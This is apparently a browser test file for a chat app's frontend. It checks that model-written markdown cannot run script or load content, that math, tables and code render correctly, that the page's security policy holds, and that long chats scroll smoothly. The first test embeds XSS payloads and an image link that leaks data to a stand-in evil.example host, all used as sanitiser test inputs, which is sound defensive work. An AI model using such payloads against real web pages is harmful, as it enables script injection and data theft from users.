// What a model writes stays text, whatever it writes. The server's replies are replaced on their way to the page.
import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { kPictures, openPage, startBrowser, startServer } from "./harness.mjs";

let server;
let browser;
before(async () => {
  server = await startServer();
  browser = await startBrowser();
});
after(async () => {
  await browser?.close();
  server?.stop();
});

/** Opens a conversation whose one answer is this. */
async function show(content, more = {}) {
  const opened = await openPage(browser, server.url, more.context ?? {});
  const conversation = { id: "x1", title: "Hostile", active_leaf_id: "2", updated_ms: Date.now() };
  const messages = more.messages ?? [
    { id: "1", parent_id: null, role: "user", content: "?", state: "complete" },
    { id: "2", parent_id: "1", role: "assistant", content, reasoning: more.reasoning ?? "", state: "complete", facts: {} },
  ];
  const leaf = messages[messages.length - 1].id;
  await opened.page.route("**/api/app/v1/conversations/x1", (route) =>
    route.fulfill({ json: { ...conversation, active_leaf_id: leaf, messages } }));
  await opened.page.evaluate(() => (location.hash = "#/c/x1"));
  await opened.page.locator("article.assistant").first().waitFor();
  return opened;
}

test("no markup of a model runs, loads or styles", async () => {
  const { page, problems, close } = await show([
    "<img src=x onerror=\"window.hit=1\"><script>window.hit=2</script><svg onload=\"window.hit=3\">",
    "", "[click](javascript:window.hit=4) [data](data:text/html,<script>hit=5</script>) <a href=\"javascript:hit=6\">x</a> [here](/api/app/v1/export)",
    "", "![picture](https://evil.example/leak?q=secret)", "", "<style>body{display:none}</style><iframe src=\"https://evil.example\">",
    "", "[a bank](https://evil.example/login) and https://plain.example/path",
    "", "$\\href{javascript:window.hit=7}{x}$ $\\htmlStyle{color:red}{y}$ \\(\\unicode{x}\\)",
    "", "```html\n<img src=x onerror=window.hit=8>\n```", "", "```\"><img src=x onerror=window.hit=9>\ncode\n```",
    "", "[x]: https://evil.example/ref", "", "| a | <b onclick=hit=1>b</b> |\n|---|---|\n| 1 | 2 |",
  ].join("\n"));
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  const answer = page.locator("article.assistant .markdown");
  assert.equal(await answer.locator("img, script, svg, style, iframe, [style], [onclick], [onerror]").count(), 0);
  const links = await answer.locator("a[href]").evaluateAll((all) => all.map((a) => [a.href, a.rel, a.target]));
  assert.deepEqual(links.map(([href]) => href), [
    "https://evil.example/leak?q=secret", "https://evil.example/", "https://evil.example/login", "https://plain.example/path",
  ]);
  for (const [, rel, target] of links) assert.deepEqual([rel, target], ["noopener noreferrer nofollow", "_blank"]);
  assert.match(await answer.innerText(), /a bank \(https:\/\/evil\.example\/login\)/);
  assert.deepEqual(problems, []);
  await close();
});

test("formulas, tables and code are shown as such", async () => {
  const { page, problems, close } = await show([
    "Inline $x^2$ and \\(y_1\\), but $5 and $6 are money.", "", "$$\\frac{a}{b} = \\boxed{42}$$", "", "\\[", "- a", "= b", "\\]",
    "", "An unfinished \\(x + 1", "", "```python", "def f(x):", "    return x  # $no$", "```", "", "| a | b |", "|---|--:|", "| $x$ | 2 |",
  ].join("\n"));
  assert.equal(await page.locator("article.assistant math").count(), 5);
  assert.equal(await page.locator("article.assistant .formula").count(), 2);
  assert.equal(await page.locator("menclose").evaluate((box) => getComputedStyle(box).borderTopWidth), "1px");
  assert.equal(await page.locator("math[display=block]").count(), 2);
  assert.equal(await page.locator("td.to-right").count(), 1);
  const text = await page.locator("article.assistant .markdown").innerText();
  assert.match(text, /\$5 and \$6 are money/);
  assert.match(text, /An unfinished \(x \+ 1/);
  assert.ok((await page.locator(".hljs-keyword").count()) >= 2);
  await page.screenshot({ path: join(kPictures, "markdown.png") });
  assert.deepEqual(problems, []);
  await close();
});

test("the page's policy refuses scripts and styles that are put into it", async () => {
  const { page, close } = await show("hello");
  const hit = await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.hit = 1";
    document.body.append(script);
    const box = document.createElement("div");
    box.innerHTML = '<p style="position:fixed">x</p>';
    document.body.append(box);
    return [window.hit, getComputedStyle(box.firstElementChild).position];
  });
  assert.deepEqual(hit, [undefined, "static"]);
  await close();
});

test("a chat of 500 messages with a long thought scrolls smoothly", { timeout: 120_000 }, async () => {
  const messages = [];
  for (let i = 0; i < 500; i += 1) {
    const role = i % 2 === 0 ? "user" : "assistant";
    const content = role === "user" ? `Question ${i}` : `Answer **${i}** with $x_{${i}}$\n\n\`\`\`python\nprint(${i})\n\`\`\`\n\n- a\n- b`;
    messages.push({ id: `${i + 1}`, parent_id: i === 0 ? null : `${i}`, role, content, state: "complete", facts: {} });
  }
  messages[499].reasoning = Array.from({ length: 3000 }, (_, i) => `Step ${i}: I add the columns from the right once more.`).join("\n\n");
  const { page, problems, close } = await show("", { messages });
  await page.locator(".thought-head").click();
  await page.locator(".thought-text").waitFor();
  const frames = await page.evaluate(async () => {
    const box = document.querySelector(".transcript");
    const times = [];
    let last = performance.now();
    for (let i = 0; i < 180; i += 1) {
      box.scrollTop -= 400;
      await new Promise(requestAnimationFrame);
      const now = performance.now();
      times.push(now - last);
      last = now;
    }
    return times.sort((a, b) => a - b);
  });
  const middle = frames[90];
  console.log(`frame times: median ${middle.toFixed(1)} ms, 95 % ${frames[171].toFixed(1)} ms, longest ${frames[179].toFixed(1)} ms`);
  assert.equal(await page.locator("article").count(), 500);
  assert.deepEqual(problems, []);
  await close();
});
